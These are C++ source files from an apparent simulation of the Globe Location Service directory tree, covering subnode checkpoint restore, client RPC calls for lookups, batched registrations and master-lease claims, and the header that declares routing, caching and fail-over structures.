  ASSIGN_OR_RETURN(uint64_t num_ptr_oids, r.ReadVarint());
  for (uint64_t i = 0; i < num_ptr_oids; ++i) {
    ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    auto& children = pointers[oid];
    for (uint64_t j = 0; j < count; ++j) {
      ASSIGN_OR_RETURN(uint32_t child, r.ReadU32());
      children.insert(child);
    }
  }
  // Trailing sections, each absent in checkpoints taken before the feature
  // existed: the lookup cache, the master-ownership records, the dedup table.
  // An empty value is a safe restore state for every one of them.
  LookupCache cache(options_.cache_ttl, options_.cache_max_entries,
                    options_.cache_negative_ttl);
  if (!r.AtEnd()) {
    RETURN_IF_ERROR(cache.Restore(&r));
  }
  std::unordered_map<ObjectId, OwnerRecord, OidHash> owners;
  if (!r.AtEnd()) {
    ASSIGN_OR_RETURN(uint64_t num_owner_oids, r.ReadVarint());
    for (uint64_t i = 0; i < num_owner_oids; ++i) {
      ASSIGN_OR_RETURN(ObjectId oid, ObjectId::Deserialize(&r));
      OwnerRecord rec;
      ASSIGN_OR_RETURN(rec.epoch, r.ReadU64());
      ASSIGN_OR_RETURN(rec.master, ContactAddress::Deserialize(&r));
      ASSIGN_OR_RETURN(rec.lease_expires_at, r.ReadU64());
      ASSIGN_OR_RETURN(rec.version_floor, r.ReadU64());
      owners[oid] = rec;
    }
  }
  if (!r.AtEnd()) {
    RETURN_IF_ERROR(server_.RestoreDedup(&r));
  }
  // Rebuild the store only after every section parsed: a decode error must not
  // leave the subnode half-restored. Entries past the capacity spill to the
  // cold store as they would under live load.
  SubnodeStore store(options_.store_capacity);
  for (auto& [oid, at_oid] : addresses) {
    store.Mutable(oid).addresses = std::move(at_oid);
  }
  for (auto& [oid, children] : pointers) {
    store.Mutable(oid).pointers = std::move(children);
  }
  store_ = std::move(store);
  owners_ = std::move(owners);
  cache_ = std::move(cache);
  return OkStatus();
}

std::vector<std::pair<ObjectId, DirectoryEntry>> DirectorySubnode::ExportEntries()
    const {
  std::vector<std::pair<ObjectId, DirectoryEntry>> entries;
  entries.reserve(store_.Size());
  store_.ForEachSorted([&](const ObjectId& oid, const DirectoryEntry& entry) {
    entries.emplace_back(oid, entry);
  });
  return entries;
}

std::vector<std::pair<ObjectId, DirectorySubnode::OwnerRecord>>
DirectorySubnode::ExportOwners() const {
  std::vector<std::pair<ObjectId, OwnerRecord>> owners(owners_.begin(),
                                                       owners_.end());
  std::sort(owners.begin(), owners.end(),
            [](const auto& a, const auto& b) { return a.first < b.first; });
  return owners;
}

void DirectorySubnode::ClearDirectoryState() {
  store_.Clear();
  owners_.clear();
  cache_.Clear();
}

void DirectorySubnode::ImportEntry(const ObjectId& oid, DirectoryEntry entry) {
  if (entry.Empty()) {
    return;
  }
  store_.Mutable(oid) = std::move(entry);
}

void DirectorySubnode::ImportOwner(const ObjectId& oid, const OwnerRecord& record) {
  owners_[oid] = record;
}

// ---------------------------------------------------------------- GlsClient

namespace {

// Shared by InsertBatch and DeleteBatch: group the items by home subnode, issue one
// batch call per group, aggregate the first error.
void CallAddressBatches(
    sim::Channel* rpc, const DirectoryRef& leaf,
    const sim::TypedMethod<BatchAddressRequest, sim::EmptyMessage>& method,
    const std::vector<std::pair<ObjectId, ContactAddress>>& items,
    sim::CallOptions options, GlsClient::DoneCallback done) {
  if (leaf.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  if (items.empty()) {
    done(OkStatus());
    return;
  }
  std::map<size_t, BatchAddressRequest> groups;
  for (const auto& item : items) {
    groups[leaf.SubnodeIndex(item.first)].items.push_back(item);
  }
  EmptyCallback join =
      JoinEmpty(groups.size(), [done = std::move(done)](Result<sim::EmptyMessage> r) {
        done(r.ok() ? OkStatus() : r.status());
      });
  for (auto& [subnode_index, group] : groups) {
    method.Call(rpc, leaf.subnodes[subnode_index], group, join, options);
  }
}

}  // namespace

GlsClient::GlsClient(sim::Transport* transport, sim::NodeId node,
                     DirectoryRef leaf_directory)
    : rpc_(transport, node), leaf_(std::move(leaf_directory)) {}

sim::CallOptions GlsClient::MakeCallOptions() const {
  sim::CallOptions options;
  options.retry = retry_;
  return options;
}

sim::CallOptions GlsClient::MakeWriteCallOptions() const {
  sim::CallOptions options;
  options.retry = write_retry_;
  return options;
}

void GlsClient::Lookup(const ObjectId& oid, LookupCallback done) {
  Lookup(oid, allow_cached_, std::move(done));
}

void GlsClient::Lookup(const ObjectId& oid, bool allow_cached, LookupCallback done) {
  auto target = leaf_.TryRoute(oid, rpc_, route_mode_);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  LookupWireRequest request;
  request.oid = oid;
  request.allow_cached = allow_cached ? 1 : 0;
  kGlsLookup.Call(&rpc_, *target, request,
                  [done = std::move(done)](Result<LookupResponse> result) {
                    if (!result.ok()) {
                      done(result.status());
                      return;
                    }
                    done(LookupResult{std::move(result->addresses), result->hops,
                                      result->found_depth, result->apex_depth,
                                      result->from_cache != 0});
                  },
                  MakeCallOptions());
}

void GlsClient::LookupAll(const ObjectId& oid, LookupCallback done) {
  auto target = leaf_.TryRoute(oid);  // mutation-style routing: hash home only
  if (!target.ok()) {
    done(target.status());
    return;
  }
  LookupWireRequest request;
  request.oid = oid;
  kGlsLookupAll.Call(&rpc_, *target, request,
                     [done = std::move(done)](Result<LookupResponse> result) {
                       if (!result.ok()) {
                         done(result.status());
                         return;
                       }
                       done(LookupResult{std::move(result->addresses),
                                         result->hops, result->found_depth,
                                         result->apex_depth, false});
                     },
                     MakeCallOptions());
}

void GlsClient::LookupBatch(const std::vector<ObjectId>& oids, BatchLookupCallback done) {
  if (leaf_.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  if (oids.empty()) {
    done(std::vector<Result<LookupResult>>{});
    return;
  }

  struct BatchState {
    std::vector<Result<LookupResult>> results;
    size_t remaining = 0;
    BatchLookupCallback done;
  };
  auto state = std::make_shared<BatchState>();
  state->results.assign(oids.size(), Result<LookupResult>(Unavailable("pending")));
  state->done = std::move(done);

  // One gls.lookup_batch call per leaf subnode the OIDs hash to; results land back
  // in their original positions.
  std::map<size_t, std::vector<size_t>> groups;
  for (size_t i = 0; i < oids.size(); ++i) {
    groups[leaf_.SubnodeIndex(oids[i])].push_back(i);
  }
  state->remaining = groups.size();

  for (auto& [subnode_index, indices] : groups) {
    BatchLookupRequest group_request;
    for (size_t i : indices) {
      group_request.oids.push_back(oids[i]);
    }
    group_request.allow_cached = allow_cached_ ? 1 : 0;
    kGlsLookupBatch.Call(
        &rpc_, leaf_.subnodes[subnode_index], group_request,
        [state, indices = std::move(indices)](Result<BatchLookupResponse> result) {
          if (!result.ok()) {
            for (size_t i : indices) {
              state->results[i] = result.status();
            }
          } else if (result->items.size() != indices.size()) {
            for (size_t i : indices) {
              state->results[i] = InvalidArgument("malformed lookup batch response");
            }
          } else {
            for (size_t k = 0; k < indices.size(); ++k) {
              const Result<Bytes>& item = result->items[k];
              state->results[indices[k]] =
                  item.ok() ? ParseLookupResult(*item)
                            : Result<LookupResult>(item.status());
            }
          }
          if (--state->remaining == 0) {
            state->done(std::move(state->results));
          }
        },
        MakeCallOptions());
  }
}

void GlsClient::Insert(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  auto target = leaf_.TryRoute(oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  kGlsInsert.Call(&rpc_, *target, AddressRequest{oid, address},
                  [done = std::move(done)](Result<sim::EmptyMessage> result) {
                    done(result.ok() ? OkStatus() : result.status());
                  },
                  MakeWriteCallOptions());
}

void GlsClient::InsertBatch(
    const std::vector<std::pair<ObjectId, ContactAddress>>& items, DoneCallback done) {
  CallAddressBatches(&rpc_, leaf_, kGlsInsertBatch, items, MakeWriteCallOptions(),
                     std::move(done));
}

void GlsClient::Delete(const ObjectId& oid, const ContactAddress& address,
                       DoneCallback done) {
  auto target = leaf_.TryRoute(oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  kGlsDelete.Call(&rpc_, *target, AddressRequest{oid, address},
                  [done = std::move(done)](Result<sim::EmptyMessage> result) {
                    done(result.ok() ? OkStatus() : result.status());
                  },
                  MakeWriteCallOptions());
}

void GlsClient::DeleteBatch(
    const std::vector<std::pair<ObjectId, ContactAddress>>& items, DoneCallback done) {
  CallAddressBatches(&rpc_, leaf_, kGlsDeleteBatch, items, MakeWriteCallOptions(),
                     std::move(done));
}

namespace {

// Shared by ClaimMaster and RenewMasterLease: route by hash to the leaf home
// subnode (which forwards to the root arbiter) and unwrap the wire response.
void CallOwnership(sim::Channel* rpc, const DirectoryRef& leaf,
                   const sim::TypedMethod<ClaimWireRequest, ClaimWireResponse>& method,
                   const MasterClaim& claim, sim::CallOptions options,
                   GlsClient::ClaimCallback done) {
  auto target = leaf.TryRoute(claim.oid);
  if (!target.ok()) {
    done(target.status());
    return;
  }
  ClaimWireRequest request{claim.oid,
                           claim.claimant,
                           claim.known_epoch,
                           claim.version,
                           claim.lease_duration,
                           static_cast<uint8_t>(claim.strict_floor ? 1 : 0)};
  method.Call(rpc, *target, request,
              [done = std::move(done)](Result<ClaimWireResponse> result) {
                if (!result.ok()) {
                  done(result.status());
                  return;
                }
                done(ClaimOutcome{result->granted != 0, result->epoch,
                                  result->master, result->version_floor});
              },
              options);
}

}  // namespace

void GlsClient::ClaimMaster(const MasterClaim& claim, ClaimCallback done) {
  CallOwnership(&rpc_, leaf_, kGlsClaimMaster, claim, MakeWriteCallOptions(),
                std::move(done));
}

void GlsClient::RenewMasterLease(const MasterClaim& claim, ClaimCallback done) {
  CallOwnership(&rpc_, leaf_, kGlsRenewLease, claim, MakeWriteCallOptions(),
                std::move(done));
}

void GlsClient::AllocateOid(OidCallback done) {
  if (leaf_.empty()) {
    done(FailedPrecondition("GLS client has no leaf directory"));
    return;
  }
  kGlsAllocOid.Call(&rpc_, leaf_.subnodes.front(), sim::EmptyMessage{},
                    [done = std::move(done)](Result<OidMessage> result) {
                      if (!result.ok()) {
                        done(result.status());
                        return;
                      }
                      done(result->oid);
                    },
                    MakeWriteCallOptions());
}

}  // namespace globe::gls
