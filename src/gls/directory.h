// The Globe Location Service directory tree (paper §3.5, Figure 2).
//
// Each domain in the Internet hierarchy has a directory node that tracks the
// distributed shared objects with representatives in its domain: either actual
// contact addresses (normally at leaf nodes) or forwarding pointers to child
// directory nodes. Lookups climb from the client's leaf domain until they hit a
// contact address or a forwarding pointer, then descend the pointer chain — so the
// cost of a lookup is proportional to the distance to the nearest replica.
//
// High-level nodes would otherwise become bottlenecks; a directory node is therefore
// partitioned into subnodes, each responsible for a slice of the object-identifier
// space via hashing and each runnable on its own machine
// [Ballintijn and van Steen 1999a]. DirectoryRef is the client-visible handle: the
// subnode set plus the hash routing rule.
//
// Three hot-path optimisations sit on top of the plain tree walk:
//   - a per-subnode TTL'd lookup cache (src/gls/cache.h): nodes that forward a
//     lookup *down* (or sideways to the OID's home sibling) remember the returned
//     contact addresses, so repeat lookups for hot OIDs stop at the apex instead of
//     re-walking the descent,
//   - batched registration: gls.insert_batch / gls.delete_batch register or
//     deregister many (OID, address) pairs in one round trip, and the
//     forwarding-pointer chain is installed with batched gls.install_ptr_batch hops,
//   - load-aware routing: lookups may route with power-of-two choices
//     (RouteMode::kPowerOfTwoChoices) using the issuing Channel's PeerLoad signal,
//     so a hot OID's requests split between its home subnode and one deterministic
//     alternate instead of pinning the home. A subnode that receives a lookup it is
//     not the hash home for answers from its cache or hands the lookup sideways to
//     the home sibling; mutations always route strictly by hash.
//
// RPC methods (port sim::kPortGls on each subnode's host):
//   gls.lookup            : LookupWireRequest -> LookupResponse
//   gls.lookup_batch      : oids, allow_cached -> per-OID LookupResponse/status
//   gls.insert            : oid, contact address -> empty   (stores + installs pointers)
//   gls.insert_batch      : (oid, address) pairs -> empty   (same, one round trip)
//   gls.delete            : oid, contact address -> empty   (removes + prunes pointers)
//   gls.delete_batch      : (oid, address) pairs -> empty   (same, one round trip)
//   gls.install_ptr       : oid, child domain -> empty      (internal, child -> parent)
//   gls.install_ptr_batch : child domain, oids -> empty     (internal, child -> parent)
//   gls.remove_ptr        : oid, child domain -> empty      (internal, child -> parent)
//   gls.inval_cache       : oid, child domain -> empty      (internal: delete-driven
//                           cache invalidation chained towards the root, fanned out
//                           to every subnode of each ancestor node)
//   gls.alloc_oid         : empty -> oid                    (OID allocation, §6.1)
//   gls.claim_master      : oid, claimant, known epoch -> granted?, epoch, master
//                           (master fail-over: epoch-fenced conditional ownership
//                           update, arbitrated at the OID's root home subnode)
//   gls.renew_lease       : oid, master, epoch -> granted?, epoch, master
//                           (the incumbent master extends its ownership lease; a
//                           rejection names the newer master to adopt)

#ifndef SRC_GLS_DIRECTORY_H_
#define SRC_GLS_DIRECTORY_H_

#include <map>
#include <memory>
#include <set>
#include <unordered_map>
#include <utility>
#include <vector>

#include "src/gls/cache.h"
#include "src/gls/oid.h"
#include "src/gls/subnode_store.h"
#include "src/sec/principal.h"
#include "src/sim/rpc.h"
#include "src/sim/topology.h"

namespace globe::gls {

// How a lookup picks among a directory node's subnodes. Mutations always use the
// OID's hash home regardless of mode — partitioned state must stay partitioned.
enum class RouteMode : uint8_t {
  kHashOnly = 0,          // the OID's hash home, always
  kPowerOfTwoChoices = 1  // home vs. one deterministic alternate, whichever the
                          // issuing Channel observes as less loaded
};

// Handle to a (possibly partitioned) directory node: route by OID hash.
struct DirectoryRef {
  std::vector<sim::Endpoint> subnodes;

  bool empty() const { return subnodes.empty(); }

  // Routing an empty ref is a caller bug; the fallible TryRoute below is for
  // client-facing paths that cannot statically guarantee a non-empty ref.
  sim::Endpoint Route(const ObjectId& oid) const {
    assert(!subnodes.empty() && "DirectoryRef::Route on an empty ref");
    return subnodes[SubnodeIndex(oid)];
  }

  Result<sim::Endpoint> TryRoute(const ObjectId& oid) const {
    if (subnodes.empty()) {
      return FailedPrecondition("DirectoryRef has no subnodes to route to");
    }
    return subnodes[SubnodeIndex(oid)];
  }

  // Load-aware routing for lookups: under kPowerOfTwoChoices, picks between the
  // OID's home subnode and its deterministic alternate, whichever `channel` has
  // observed as less loaded (outstanding depth, then EWMA latency). Falls back to
  // the home subnode on ties, in kHashOnly mode, and on unpartitioned nodes.
  Result<sim::Endpoint> TryRoute(const ObjectId& oid, const sim::Channel& channel,
                                 RouteMode mode) const;

  // The subnode slot an OID hashes to (valid only for a non-empty ref).
  size_t SubnodeIndex(const ObjectId& oid) const {
    assert(!subnodes.empty() && "DirectoryRef::SubnodeIndex on an empty ref");
    return oid.Hash() % subnodes.size();
  }

  // The second-choice slot for power-of-two routing: a deterministic function of
  // the OID so a hot OID's load splits across exactly two subnodes.
  size_t AlternateIndex(const ObjectId& oid) const;
};

// gls.lookup wire format; defined in directory.cc (subnodes forward it, GlsClient
// issues the initial request).
struct LookupWireRequest;

// gls.claim_master / gls.renew_lease wire formats; defined in directory.cc.
struct ClaimWireRequest;
struct ClaimWireResponse;

struct LookupResponse {
  std::vector<ContactAddress> addresses;
  uint32_t hops = 0;        // directory-to-directory messages traversed
  int32_t found_depth = 0;  // tree depth of the node holding the addresses
  int32_t apex_depth = 0;   // highest (smallest-depth) node the lookup visited
  uint8_t from_cache = 0;   // 1 when a subnode's lookup cache produced the answer

  Bytes Serialize() const;
  static Result<LookupResponse> Deserialize(ByteSpan data);
};

struct GlsOptions {
  // Paper §6.1 requirement 2: "The Globe Location Service should accept only object
  // registrations (and deregistrations) from Globe Object Servers which are
  // officially part of the GDN." When true, mutating methods require an
  // authenticated peer whose registry role is kGdnHost or kAdministrator.
  bool enforce_authorization = false;

  // Per-subnode lookup cache (src/gls/cache.h). Populated on lookup descent (and on
  // sideways forwards under power-of-two routing), consulted only for lookups that
  // set allow_cached, never for mutations, and invalidated whenever a mutation
  // touches the OID at this node. When enabled, deletes additionally chain a
  // gls.inval_cache towards the root — fanned out to every subnode of each ancestor
  // node — so no subnode anywhere serves a deregistered address from cache.
  bool enable_cache = false;
  sim::SimTime cache_ttl = 30 * sim::kSecond;
  size_t cache_max_entries = 4096;
  // TTL of negative (NotFound) cache entries: repeat misses for deleted or
  // unknown OIDs are answered from the first cache on the climb path instead of
  // re-walking to the root. Kept short because a registration whose mutation
  // chain never touches this subnode only becomes visible here on expiry.
  sim::SimTime cache_negative_ttl = LookupCache::kDefaultNegativeTtl;

  // Routing mode this subnode uses for the lookups it forwards (climbs, descents).
  RouteMode lookup_route_mode = RouteMode::kHashOnly;

  // Per-request processing cost of this subnode (0 = instantaneous). With a
  // non-zero value requests queue FIFO on the subnode's virtual CPU pool, which
  // is what makes load imbalance visible as tail latency (see
  // bench_gls_partitioning's skew table).
  sim::SimTime service_time = 0;
  // Virtual CPUs serving that queue (RpcServer::set_worker_pool_width): >1
  // models a multi-core subnode machine.
  int service_workers = 1;

  // Memory bound: how many directory entries (OIDs) this subnode keeps
  // resident. The cold tail spills to the subnode's cold store (the simulation
  // stand-in for §7 on-disk state) and faults back in on access; nothing is
  // lost. 0 = unbounded, the historical behaviour.
  size_t store_capacity = 0;
};

struct SubnodeStats {
  uint64_t lookups = 0;
  uint64_t found_local = 0;
  uint64_t forwards_up = 0;
  uint64_t forwards_down = 0;
  uint64_t forwards_sideways = 0;  // lookups handed to the OID's home sibling
  uint64_t inserts = 0;
  uint64_t deletes = 0;
  uint64_t pointer_installs = 0;
  uint64_t pointer_removes = 0;
  uint64_t denied = 0;
  uint64_t cache_hits = 0;           // lookups answered from the lookup cache
  uint64_t cache_misses = 0;         // allow_cached lookups that had to walk pointers
  uint64_t cache_invalidations = 0;  // cache entries dropped by mutations
  uint64_t batch_lookups = 0;        // gls.lookup_batch requests served
  uint64_t batch_inserts = 0;        // gls.insert_batch requests served
  uint64_t batch_deletes = 0;        // gls.delete_batch requests served
  uint64_t negative_cache_hits = 0;  // lookups answered NotFound from the cache
  uint64_t lookup_alls = 0;          // gls.lookup_all enumerations served here
  uint64_t master_claims = 0;          // gls.claim_master arbitrated here (root)
  uint64_t master_claims_granted = 0;  // claims that won the next epoch
  uint64_t lease_renewals = 0;         // gls.renew_lease arbitrated here (root)
  uint64_t stale_scrubs = 0;    // deposed-master scrub chains started here (root)
  uint64_t insert_invals = 0;   // install-driven inval fan-outs started here
  // Memory-bounded store accounting (refreshed from the SubnodeStore on read).
  uint64_t store_evictions = 0;      // entries spilled to the cold store
  uint64_t store_fault_ins = 0;      // spilled entries faulted back in
  uint64_t store_spilled_bytes = 0;  // serialized bytes written to cold storage
  uint64_t store_peak_resident = 0;  // high-water mark of resident entries
};

class DirectorySubnode {
 public:
  DirectorySubnode(sim::Transport* transport, sim::NodeId host, sim::DomainId domain,
                   int depth, GlsOptions options, const sec::KeyRegistry* registry,
                   uint64_t rng_seed);

  void SetParent(DirectoryRef parent) { parent_ = std::move(parent); }
  void AddChild(sim::DomainId child_domain, DirectoryRef ref) {
    children_[child_domain] = std::move(ref);
  }
  // The full subnode set of this subnode's own directory node (including itself);
  // needed to recognise lookups routed here by power-of-two choices and hand them
  // to the OID's home sibling. Optional: without it every OID is treated as local.
  void SetSelf(DirectoryRef self);

  sim::Endpoint endpoint() const { return server_.endpoint(); }
  sim::NodeId host() const { return server_.node(); }
  sim::DomainId domain() const { return domain_; }
  int depth() const { return depth_; }
  // Refreshes the store_* fields from the SubnodeStore, then returns the stats.
  const SubnodeStats& stats() const;

  // Directly visible state, for tests and the persistence machinery. The
  // probes never disturb the LRU or fault anything in.
  size_t NumAddresses(const ObjectId& oid) const;
  size_t NumPointers(const ObjectId& oid) const;
  size_t TotalEntries() const;
  // Entries currently resident in memory / spilled to the cold store.
  size_t StoreResidentEntries() const { return store_.ResidentSize(); }
  size_t StoreColdEntries() const { return store_.Size() - store_.ResidentSize(); }
  size_t CacheSize() const { return cache_.size(); }
  size_t DedupEntries() const { return server_.dedup_entries(); }
  // The master-ownership epoch this subnode arbitrates for `oid` (0 = no record
  // — only the OID's root home subnode ever holds one).
  uint64_t OwnerEpoch(const ObjectId& oid) const;
  // The acked-write floor recorded with that ownership (0 = no record). Under
  // quorum mode this is the exact commit point of the last acked write.
  uint64_t OwnerVersionFloor(const ObjectId& oid) const;

  // Persistence: "persistent storage of the state of a directory node (location
  // information and forwarding pointers)" with "a simple crash recovery mechanism"
  // (paper §7). Cache contents, master-ownership records and the RPC server's
  // at-most-once dedup table ride along, so a subnode rebuilt from its checkpoint
  // resumes warm, keeps arbitrating fail-over, and still replays duplicates of
  // writes the pre-crash server executed.
  Bytes SaveState() const;
  Status RestoreState(ByteSpan data);

  // Per-OID master-ownership record (fail-over): the current epoch, the address
  // that holds it, and how long its lease runs. Kept only at the OID's root home
  // subnode — the one node every claim deterministically routes to, which is
  // what makes the conditional update a real arbitration.
  struct OwnerRecord {
    uint64_t epoch = 0;
    ContactAddress master;
    sim::SimTime lease_expires_at = 0;
    // Acked-write high-water mark the master reported on its last renewal;
    // non-incumbent claimants below it are refused (see MasterClaim::version).
    uint64_t version_floor = 0;
  };

  // Subnode splitting support (GlsDeployment::SplitDirectoryNode): drain every
  // directory entry and ownership record out of this subnode / graft the slice
  // that hashes here under the new subnode set. Deployment-level machinery —
  // the refs (self/parent/children) are rewired by the caller.
  std::vector<std::pair<ObjectId, DirectoryEntry>> ExportEntries() const;
  std::vector<std::pair<ObjectId, OwnerRecord>> ExportOwners() const;
  void ClearDirectoryState();
  void ImportEntry(const ObjectId& oid, DirectoryEntry entry);
  void ImportOwner(const ObjectId& oid, const OwnerRecord& record);

 private:
  static constexpr uint8_t kPhaseUp = 0;
  static constexpr uint8_t kPhaseDown = 1;

  using LookupResponder = std::function<void(Result<LookupResponse>)>;
  using EmptyResponder = std::function<void(Result<sim::EmptyMessage>)>;

  Status CheckAuthorized(const sim::RpcContext& context) const;

  // Lookup core shared by gls.lookup and gls.lookup_batch: local addresses, then the
  // cache (when allowed), then pointer descent / sideways handoff / parent climb.
  void ResolveLookup(LookupWireRequest request, LookupResponder respond);

  // gls.lookup_all core: climb strictly by hash to the OID's root home, then
  // union this node's addresses with a descent into EVERY forwarding-pointer
  // child — the exhaustive registration set, where gls.lookup stops at the
  // nearest. Never cached (control-plane callers need the authoritative set);
  // an unreachable branch degrades to a partial enumeration rather than an
  // error.
  void ResolveLookupAll(LookupWireRequest request, LookupResponder respond);

  // gls.claim_master / gls.renew_lease core: forwarded strictly by hash towards
  // the root, arbitrated against the OwnerRecord there.
  void ResolveOwnership(bool is_claim, const ClaimWireRequest& request,
                        std::function<void(Result<ClaimWireResponse>)> respond);

  // True when this subnode is not the hash home for `oid` on its own node (i.e. a
  // power-of-two alternate received the lookup).
  bool IsAlternateFor(const ObjectId& oid) const;

  // Drops the cache entry for `oid` if present (mutations must never leave a cached
  // answer the mutation contradicts). `quarantine` additionally blocks re-caching
  // briefly; deregistration paths need it, insert paths do not (see LookupCache).
  void InvalidateCached(const ObjectId& oid, bool quarantine);

  // One deregistration applied locally plus its coherence chain; shared by
  // gls.delete and gls.delete_batch.
  void ApplyDelete(const ObjectId& oid, const ContactAddress& address,
                   EmptyResponder respond);

  // Deposed-master cleanup (gls.scrub_address): deletes the exact
  // (oid, address) pair if registered here, otherwise descends the pointer
  // chain towards wherever it might be. Idempotent — a missing address is
  // success, so the scrub races benignly with the deposed master's own
  // deregistration.
  void ScrubAddress(const ObjectId& oid, const ContactAddress& address,
                    EmptyResponder respond);

  // Continues an insert by installing the forwarding pointer chain towards the root,
  // then responds.
  void PropagatePointerUp(const ObjectId& oid, EmptyResponder respond);
  // Batched equivalent: one install_ptr_batch message per parent subnode.
  void PropagatePointerUpBatch(const std::vector<ObjectId>& oids, EmptyResponder respond);
  // Continues a delete by pruning the pointer chain (and, with caching on,
  // invalidating this node's sibling caches), then responds.
  void PropagateRemoveUp(const ObjectId& oid, EmptyResponder respond);
  // Continues a delete that stopped pruning by invalidating every subnode of every
  // ancestor node up to the root (`include_siblings` additionally covers this
  // node's own siblings — used where the chain originates or arrives point-to-
  // point), then responds. No-op (immediate respond) when caching is off.
  // `quarantine` is threaded into the fan-out: deregistration chains set it so a
  // racing lookup cannot re-cache the address being removed; insert-driven
  // chains clear it so the just-registered replica is cacheable immediately.
  void PropagateInvalUp(const ObjectId& oid, bool include_siblings, bool quarantine,
                        EmptyResponder respond);

  // This subnode's sibling endpoints (empty if SetSelf was never called).
  std::vector<sim::Endpoint> SiblingEndpoints() const;

  sim::RpcServer server_;
  std::unique_ptr<sim::Channel> client_;
  sim::Clock* clock_;
  sim::DomainId domain_;
  int depth_;
  GlsOptions options_;
  const sec::KeyRegistry* registry_;
  Rng rng_;

  DirectoryRef parent_;
  DirectoryRef self_;
  std::map<sim::DomainId, DirectoryRef> children_;
  // Merged per-OID directory state (contact addresses + forwarding pointers),
  // memory-bounded: hashed hot set under LRU, cold tail spilled per subnode.
  SubnodeStore store_;
  // Root-only fail-over arbitration records; never evicted (losing one would
  // unfence a stale master), hashed for the planet-scale claim path.
  std::unordered_map<ObjectId, OwnerRecord, OidHash> owners_;
  LookupCache cache_;
  // stats() refreshes the store_* fields on read, hence mutable.
  mutable SubnodeStats stats_;
};

struct LookupResult {
  std::vector<ContactAddress> addresses;
  uint32_t hops = 0;
  int32_t found_depth = 0;
  int32_t apex_depth = 0;
  bool from_cache = false;
};

// One attempt to take (gls.claim_master) or keep (gls.renew_lease) mastership
// of an object's replica group. `known_epoch` is the epoch the caller believes
// is current: a claim is granted only if the record has not moved past it AND
// the incumbent's lease has lapsed (or the caller is the incumbent), which is
// the conditional update that makes concurrent claimants race safely.
struct MasterClaim {
  ObjectId oid;
  ContactAddress claimant;
  uint64_t known_epoch = 0;
  // The claimant's applied write version. Renewals raise the record's
  // version floor with it; claims below the floor are refused (the claimant
  // is provably missing acknowledged writes), except from the incumbent —
  // whose checkpoint restore is the one sanctioned rollback.
  uint64_t version = 0;
  sim::SimTime lease_duration = 5 * sim::kSecond;
  // Quorum-ack mode: the floor is exact (every version at or below it was
  // acked to a client), so it must be monotone and binding for everyone — the
  // incumbent exemption above is disabled and a renewal can only raise it.
  // Appended last so positional aggregate initialization stays compatible.
  bool strict_floor = false;
};

// The arbiter's answer. Rejections carry the current record so losers (and
// deposed masters) can adopt the winner. `version_floor` reports the record's
// acked-write floor: an elected quorum master applies its staged writes up to
// exactly this floor and discards anything above it.
struct ClaimOutcome {
  bool granted = false;
  uint64_t epoch = 0;
  ContactAddress master;
  uint64_t version_floor = 0;
};

// Client-side stub: the run-time-system piece that talks to the leaf directory node
// of the domain its process lives in.
class GlsClient {
 public:
  GlsClient(sim::Transport* transport, sim::NodeId node, DirectoryRef leaf_directory);

  using LookupCallback = std::function<void(Result<LookupResult>)>;
  using BatchLookupCallback =
      std::function<void(Result<std::vector<Result<LookupResult>>>)>;
  using DoneCallback = std::function<void(Status)>;
  using OidCallback = std::function<void(Result<ObjectId>)>;

  void Lookup(const ObjectId& oid, LookupCallback done);
  // `allow_cached` lets directory subnodes answer from their lookup caches
  // (TTL-bounded staleness in exchange for fewer directory hops).
  void Lookup(const ObjectId& oid, bool allow_cached, LookupCallback done);
  // Resolves many OIDs in one round trip per leaf subnode. The result vector is
  // positional: results[i] belongs to oids[i]. Batches always group by hash home.
  void LookupBatch(const std::vector<ObjectId>& oids, BatchLookupCallback done);

  // Exhaustive enumeration: EVERY contact address registered anywhere in the
  // tree, not just the nearest (the climb goes to the OID's root home and
  // descends all forwarding pointers). Control-plane only — a protocol switch
  // fencing an object's foreign replicas, audits — never the serving path: it
  // always walks to the root and bypasses every cache.
  void LookupAll(const ObjectId& oid, LookupCallback done);

  void Insert(const ObjectId& oid, const ContactAddress& address, DoneCallback done);
  // Registers many (OID, address) pairs in one round trip per leaf subnode; the
  // aggregate status is OK only if every registration succeeded.
  void InsertBatch(const std::vector<std::pair<ObjectId, ContactAddress>>& items,
                   DoneCallback done);
  void Delete(const ObjectId& oid, const ContactAddress& address, DoneCallback done);
  // Deregisters many (OID, address) pairs in one round trip per leaf subnode; the
  // aggregate status is OK only if every deregistration succeeded. Mirrors
  // InsertBatch; used by GOS decommission.
  void DeleteBatch(const std::vector<std::pair<ObjectId, ContactAddress>>& items,
                   DoneCallback done);
  void AllocateOid(OidCallback done);

  // Master fail-over: races an epoch-fenced conditional ownership update to the
  // OID's root home subnode (the leaf forwards strictly by hash). Exactly one
  // concurrent claimant is granted the next epoch; everyone else gets the
  // current record back. Executed at most once server-side, so the write retry
  // budget cannot double-grant.
  using ClaimCallback = std::function<void(Result<ClaimOutcome>)>;
  void ClaimMaster(const MasterClaim& claim, ClaimCallback done);
  // The incumbent extends its ownership lease; a rejection names the newer
  // epoch/master to adopt. Idempotent (only a timestamp refresh), so it skips
  // the dedup table.
  void RenewMasterLease(const MasterClaim& claim, ClaimCallback done);

  // Default for the single-OID Lookup overload without an explicit flag.
  void set_allow_cached(bool allow) { allow_cached_ = allow; }
  bool allow_cached() const { return allow_cached_; }

  // Routing mode for single-OID lookups (mutations always hash-route).
  void set_route_mode(RouteMode mode) { route_mode_ = mode; }
  RouteMode route_mode() const { return route_mode_; }

  // Applied to every call this client issues (lookups and mutations alike),
  // except mutations whose budget was pinned with set_write_retry_policy.
  void set_retry_policy(sim::RetryPolicy policy) {
    if (!write_retry_explicit_) {
      write_retry_ = policy;
    }
    retry_ = std::move(policy);
  }
  // Budget for the mutating calls only (Insert/Delete, the batches, and
  // AllocateOid), overriding set_retry_policy there in either call order.
  // Defaults to 3 attempts with the UNAVAILABLE-only predicate: GLS mutations
  // are executed at most once server-side, so a lost response is safe to retry;
  // lookups keep the single-attempt default unless set_retry_policy says
  // otherwise.
  void set_write_retry_policy(sim::RetryPolicy policy) {
    write_retry_explicit_ = true;
